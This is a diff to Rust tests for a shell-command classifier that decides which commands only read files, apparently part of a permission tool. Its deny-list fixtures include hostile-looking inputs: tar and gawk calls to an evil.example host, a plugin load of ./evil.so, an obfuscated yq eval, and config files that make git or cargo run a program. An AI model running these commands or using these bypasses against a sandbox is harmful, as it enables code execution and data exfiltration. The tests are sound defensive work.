@@ -97,7 +97,9 @@ fn given_a_command_that_only_reads_then_it_fits_the_table() {
         "git version",
         "cargo --version",
         "cargo metadata --no-deps",
-        "cargo tree",
+        "cargo tree --frozen",
+        "cargo tree --locked --offline -e x",
+        "cargo metadata --frozen",
         "rustc --version",
         "node --version",
         "python3 --version",
@@ -123,6 +125,22 @@ fn given_a_command_that_only_reads_then_it_fits_the_table() {
         "tar tf a.tar",
         "tar -tvf a.tar",
         "rg foo -- -x",
+        "git branch --list 'feat*'",
+        "git branch -l foo",
+        "git branch --merged main",
+        "git branch -v --abbrev=8",
+        "git tag -l 'v*'",
+        "git tag -n3 'v*'",
+        "git symbolic-ref --short HEAD",
+        "git shortlog -sn HEAD",
+        "ps aux",
+        "ps -ef",
+        "ps -p 1 -o comm",
+        "tac f",
+        "nm a.o",
+        "readelf -n a.o",
+        "scc src",
+        "tsort f",
     ];
     hold(lines, |line| {
         let known = look(line);
@@ -131,6 +149,7 @@ fn given_a_command_that_only_reads_then_it_fits_the_table() {
 }
 
 /// Decisions, section 2: "A simple command that fits it entirely, with literal words".
+/// Attack 77.
 #[test]
 fn given_anything_else_then_it_does_not_fit() {
     let lines = [
@@ -210,6 +229,46 @@ fn given_anything_else_then_it_does_not_fit() {
         "umask 0",
         "jobs -x id",
         "exit --what",
+        "git branch --abbrev newb",
+        "git branch -v --abbrev x",
+        "git branch --list -D x",
+        "git tag v1 --sort=x",
+        "git symbolic-ref HEAD refs/heads/x",
+        "git symbolic-ref -d HEAD",
+        "git diff --submodule=diff",
+        "yq -s .name f.yml",
+        "yq -n 'eval(\"lo\"+\"ad_str(x)\")'",
+        "scc -o f",
+        "cloc .",
+        "cargo tree",
+        "cargo tree --locked",
+        "cargo tree --offline",
+        "cargo metadata",
+        "cargo metadata --format-version 1 --locked",
+        "tar tf evil.example:x",
+        "tar -tf evil.example:x",
+        "tar -t --file=u@evil.example:/x",
+        "tar tsf evil.example:x y",
+        "tree -R",
+        "tree -L 1 -R",
+        "nohup ls",
+        "nohup timeout 5 ls",
+        "ps e",
+        "ps auxe",
+        "ps ef",
+        "ps -E",
+        "ps aux e",
+        "ps -ef 1 e",
+        "nm @opts t.o",
+        "size @opts",
+        "strings @opts",
+        "objdump -t @opts",
+        "readelf -h @opts",
+        "nm --plugin ./evil.so t.o",
+        "gawk '{print}' /inet/tcp/0/evil.example/80",
+        "objdump -S a.o",
+        "unzip -l -x a.zip b.zip -d x",
+        "git blame --abbrev ../x f --contents y",
     ];
     hold(lines, |line| look(line).reader.then(|| line.to_owned()));
     let words = [Word::from("ls")];
@@ -218,6 +277,7 @@ fn given_anything_else_then_it_does_not_fit() {
 
 /// Decisions, section 2: "with its operands as `read` accesses", and "words that ... lie above a path".
 /// Attack 85: a search goes as far below its operands, or the folder that it runs in, as the program does.
+/// Attack 77.
 #[test]
 fn given_a_reader_then_its_operands_are_read() {
     let dir = tempfile::tempdir().unwrap();
@@ -273,6 +333,27 @@ fn given_a_reader_then_its_operands_are_read() {
         ("git diff --stat -p src", &[("src", Shown)]),
         ("git stash show -p src", &[("src", Shown)]),
         ("sed -n 1p .env", &[(".env", Itself)]),
+        ("cat -b ../x", &[("../x", Itself)]),
+        ("cat -l ../x", &[("../x", Itself)]),
+        ("tac -b ../x", &[("../x", Itself)]),
+        ("nl -b a ../x", &[("../x", Itself)]),
+        ("look '' ../x", &[("../x", Itself)]),
+        ("yq ../x", &[("../x", Itself)]),
+        ("stat -t ../x", &[("../x", Itself)]),
+        ("readelf -n ../x", &[("../x", Itself)]),
+        ("readelf -e ../x", &[("../x", Itself)]),
+        ("objdump -t ../x", &[("../x", Itself)]),
+        ("nm ../x", &[("../x", Itself)]),
+        ("size -t ../x", &[("../x", Itself)]),
+        ("zipinfo ../x", &[("../x", Itself)]),
+        ("who ../x", &[("../x", Itself)]),
+        ("users ../x", &[("../x", Itself)]),
+        ("uptime ../x", &[("../x", Itself)]),
+        ("last -f ../x", &[("../x", Itself)]),
+        ("git diff -U ../x", &[("../x", Shown), (".", Changed)]),
+        ("sed -l p ../x", &[("../x", Itself)]),
+        ("ls -T ../x", &[("../x", Itself)]),
+        ("unzip -l -x ../x", &[("../x", Itself)]),
     ];
     hold(rows, |(line, expected)| {
         let known = look_in(line, &root, false);
@@ -302,7 +383,7 @@ fn given_a_repository_that_names_a_program_then_git_is_no_reader() {
     assert!(look_in("git status", dir.path(), false).reader);
     std::fs::write(dir.path().join(".git/config"), "[core]\n\tfsmonitor = ./x\n").unwrap();
     assert!(!look_in("git status", dir.path(), false).reader);
-    assert!(look_in("git --version", dir.path(), false).reader);
+    assert!(look_in("git version", dir.path(), false).reader);
 }
 
 /// Attack 76.
@@ -310,13 +391,14 @@ fn given_a_repository_that_names_a_program_then_git_is_no_reader() {
 fn given_a_folder_that_tells_cargo_what_to_run_then_cargo_is_no_reader() {
     let dir = tempfile::tempdir().unwrap();
     let at = Path::new(dir.path());
-    assert!(look_in("cargo tree", at, false).reader);
+    let line = "cargo tree --frozen";
+    assert!(look_in(line, at, false).reader);
     std::fs::create_dir(at.join(".cargo")).unwrap();
     std::fs::write(at.join(".cargo/config.toml"), "[build]\nrustc = \"./x\"\n").unwrap();
-    assert!(!look_in("cargo tree", at, false).reader);
+    assert!(!look_in(line, at, false).reader);
     // From further down than mayi looks up.
     let other = tempfile::tempdir().unwrap();
-    assert!(!look_in("cargo tree", &other.path().join("d/".repeat(70)), false).reader);
+    assert!(!look_in(line, &other.path().join("d/".repeat(70)), false).reader);
 }
 
 /// Attack 76: `--version` of a program that loads something of its folder, and the help of a command whose
